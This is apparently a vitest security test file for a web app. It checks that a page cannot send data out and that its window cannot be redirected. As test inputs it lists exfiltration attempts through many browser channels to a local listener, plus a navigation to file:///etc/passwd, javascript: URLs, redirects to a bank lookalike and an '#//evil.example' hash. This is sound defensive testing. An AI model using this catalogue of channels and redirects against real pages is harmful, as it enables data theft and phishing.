import { describe, expect, test } from 'vitest';
import { heading } from './open-app.ts';
import { underAttack } from './under-attack.ts';

const attack = underAttack();

test('the listening post hears who may speak', async () => {
  await fetch(`http://127.0.0.1:${attack().post.port}/control`).catch(() => {});
  expect(attack().post.heard.splice(0)).toContain('tcp GET /control HTTP/1.1');
});

describe('nothing leaves the window', () => {
  /** What a page can ask for, by each way that it has. */
  const ways = {
    fetch: "await fetch('http://' + tcp + '/fetch')",
    'fetch without an answer':
      "await fetch('http://' + tcp + '/opaque', { mode: 'no-cors', keepalive: true })",
    XMLHttpRequest: `await new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.onerror = () => reject(new TypeError());
      request.open('POST', 'http://' + tcp + '/xhr');
      request.send('words');
    })`,
    WebSocket: `await new Promise((resolve, reject) => {
      const socket = new WebSocket('ws://' + tcp + '/socket');
      socket.onopen = resolve;
      socket.onerror = () => reject(new TypeError());
    })`,
    EventSource: `await new Promise((resolve, reject) => {
      const source = new EventSource('http://' + tcp + '/events');
      source.onopen = resolve;
      source.onerror = () => reject(new TypeError());
    })`,
    WebTransport: "await new WebTransport('https://' + tcp + '/transport').ready",
    'an image': `await new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = resolve;
      image.onerror = () => reject(new TypeError());
      image.src = 'http://' + tcp + '/image';
    })`,
    'a typeface': "await new FontFace('x', 'url(http://' + tcp + '/font)').load()",
    'a module': "await import('http://' + tcp + '/module.js')",
    'a worker': `await new Promise((resolve, reject) => {
      const worker = new Worker(new URL('./worker.js', location.href));
      worker.onmessage = resolve;
      worker.onerror = () => reject(new TypeError());
    })`,
    'a service worker': "await navigator.serviceWorker.register('./index.js')",
    'an imported style': "await new CSSStyleSheet().replace('@import url(http://' + tcp + '/style)')",
  };

  test.each(Object.entries(ways))('by %s', async (_name, work) => {
    const answer = await attack().inPage<string>(
      `return attempt(async () => { ${work}; return 'let out'; });`,
    );
    // A sheet may be written; what it imports is left out.
    if (work.includes('CSSStyleSheet')) expect(answer).toBe('let out');
    else expect(answer).toMatch(/Error$/);
  });

  test('by a beacon, a ping, a hint, a frame, a medium, an object or a style', async () => {
    await attack().inPage(`navigator.sendBeacon('http://' + tcp + '/beacon', 'words');
      const add = (name, set) => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(set)) {
          try { element.setAttribute(key, value); } catch {}
        }
        document.body.append(element);
        return element;
      };
      const to = (what) => 'http://' + tcp + '/' + what;
      for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'icon', 'manifest', 'prerender']) {
        add('link', { rel, href: to(rel), as: 'image' });
      }
      for (const tag of ['iframe', 'frame', 'embed', 'audio', 'video', 'script', 'input', 'img', 'source', 'track']) {
        add(tag, { src: to(tag), type: 'image', autoplay: '' });
      }
      add('object', { data: to('object'), type: 'text/html' });
      add('video', { poster: to('poster') });
      add('img', { srcset: to('srcset') + ' 2x' });
      add('p', { style: 'background: url(' + to('background') + ')' }).style.background = 'url(' + to('property') + ')';
      const link = add('a', { href: '#x', ping: to('ping') });
      link.click();
      location.hash = '#/today';
      // The page gets two frames' time to ask.
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));`);
    await attack().nothingChanged();
  });

  test('by WebRTC, over UDP or TCP', async () => {
    const states = await attack().inPage<{
      candidates: string[];
      state: string;
    }>(`const peer = new RTCPeerConnection({
        iceServers: [
          { urls: 'stun:' + udp },
          { urls: 'turn:' + udp + '?transport=udp', username: 'words', credential: 'x' },
          { urls: 'turn:' + tcp + '?transport=tcp', username: 'words', credential: 'x' },
        ],
      });
      const candidates = [];
      const gathered = new Promise((resolve) => {
        peer.onicecandidate = ({ candidate }) => (candidate === null ? resolve() : candidates.push(candidate.candidate));
      });
      peer.createDataChannel('words');
      await peer.setLocalDescription(await peer.createOffer());
      await gathered;
      return { candidates: candidates.filter((text) => text !== ''), state: peer.iceGatheringState };`);
    expect(states).toEqual({ candidates: [], state: 'complete' });
  });

  test('and indeed nothing was heard', () => {
    expect(attack().post.heard).toEqual([]);
  });
});

describe('the window stays what it is', () => {
  test.each([
    ['location', "location.href = 'http://' + tcp + '/location'"],
    ['location.replace', "location.replace('https://bank.example/')"],
    ['a script in the address', "location.href = 'javascript:document.title=1'"],
    ['a document in the address', "location.assign('data:text/html,x')"],
    ['a file', "location.assign('file:///etc/passwd')"],
    ['another file of the app', "location.assign('./assets/nothing.html')"],
    ['open', "open('http://' + tcp + '/open')"],
    ['open of nothing, written into', "open('about:blank')?.document.write('x')"],
    ['open in itself', "open('https://bank.example/', '_self')"],
    ['a link', "Object.assign(document.createElement('a'), { href: 'https://bank.example/' }).click()"],
    [
      'a link with a target',
      "Object.assign(document.createElement('a'), { href: 'https://bank.example/', target: '_blank', rel: 'opener' }).click()",
    ],
    [
      'a download',
      "Object.assign(document.createElement('a'), { href: 'data:text/plain,x', download: 'x.exe' }).click()",
    ],
    [
      'a form',
      `const form = Object.assign(document.createElement('form'), { action: 'http://' + tcp + '/form', method: 'post' });
      document.body.append(form);
      form.submit()`,
    ],
    [
      'a form into a new window',
      `const form = Object.assign(document.createElement('form'), { action: 'http://' + tcp + '/form', target: '_blank' });
      document.body.append(form);
      form.submit()`,
    ],
    [
      'a refresh',
      `const refresh = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=https://bank.example/' });
      document.head.append(refresh)`,
    ],
    [
      'a base for its links',
      `document.head.append(Object.assign(document.createElement('base'), { href: 'https://bank.example/' }));
      const base = document.baseURI;
      if (base.includes('bank')) throw new Error('base');`,
    ],
  ])('against %s', async (_name, work) => {
    const { page } = attack();
    await attack().inPage(`await attempt(async () => { ${work}; });`);
    await attack().nothingChanged();
    await expect.poll(() => page.context().pages().length).toBe(1);
    await expect.poll(() => page.locator('#root').count()).toBe(1);
  });

  test('a page that calls itself by another address is not heard until it is itself again', async () => {
    const answers = await attack().inPage<string[]>(`const before = location.href;
      const answers = [];
      for (const address of ['./other.html', './index.html?a=1', './assets/x', before]) {
        history.pushState({}, '', address);
        const reply = await drillroom.call('accounts.me', {});
        answers.push(reply.ok ? 'heard' : reply.error.code);
      }
      return answers;`);
    expect(answers).toEqual(['FORBIDDEN', 'FORBIDDEN', 'FORBIDDEN', 'heard']);
    // What the page itself asked meanwhile was refused, too.
    await attack().page.reload();
    await attack().nothingChanged();
  });

  test('no place behind the hash breaks it', async () => {
    const { page } = attack();
    for (const hash of [
      '#//evil.example',
      '#javascript:alert(1)',
      '#/%00',
      '#/../../x',
      `#/${'a'.repeat(1500)}`,
      '#/__proto__',
      '#/report/%E0%A4%A',
    ]) {
      await page.evaluate(`location.hash = ${JSON.stringify(hash)}`);
      await attack().nothingChanged();
    }
    await page.evaluate("location.hash = '#/today'");
    await heading(page, /^Good /).waitFor();
  });
});
